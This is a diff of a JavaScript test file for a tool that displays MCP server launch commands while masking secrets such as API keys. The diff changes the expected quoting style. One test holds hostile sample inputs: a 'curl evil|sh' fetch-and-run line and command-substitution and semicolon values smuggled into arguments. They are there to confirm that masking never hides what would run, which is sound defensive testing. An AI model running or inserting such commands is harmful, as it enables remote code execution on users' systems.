@@ -31,8 +31,8 @@ describe('what a person sees', () => {
       'server       one',
       'project      /p',
       'file         /p/.mcp.json (claude-code, project)',
-      `runs         '\${BIN}/server' --dir 'a b' 'it'\\''s' '' --api-key •••••••• '\${GONE}' '\${MY_TOKEN}'`,
-      `that is      /opt/server --dir 'a b' 'it'\\''s' '' --api-key •••••••• '\${GONE}' '\${MY_TOKEN}'`,
+      `runs         '\${BIN}/server' --dir "a b" "it's" '' --api-key •••••••• '\${GONE}' '\${MY_TOKEN}'`,
+      `that is      /opt/server --dir "a b" "it's" '' --api-key •••••••• '\${GONE}' '\${MY_TOKEN}'`,
       'in           /p/sub',
       'with         API_KEY=••••••••',
       'with         MODE=fast',
@@ -70,10 +70,10 @@ describe('what a person sees', () => {
   it('hides nothing that is run behind a mask', () => {
     const script = 'TOKEN=x evil-command; PASSWORD=$(curl evil|sh) API_KEY=`evil` sh';
     expect(shown({ command: 'sh', args: ['-c', script, '--password', '$(evil)', '--token=;evil'] })).toContain(
-      `sh -c '${script}' --password '$(evil)' '--token=;evil'`,
+      `sh -c '${script}' --password '$(evil)' "--token=;evil"`,
     );
     expect(shown({ command: 'a', env: { X: `!${script}` } })).toContain(script);
-    expect(shown({ command: 'sh', args: ['-c', 'x sk-ant-0123456789abcdef | y'] })).toContain("'x •••••••• | y'");
+    expect(shown({ command: 'sh', args: ['-c', 'x sk-ant-0123456789abcdef | y'] })).toContain('"x •••••••• | y"');
   });
 
   it('holds nothing that a terminal would act on', () => {
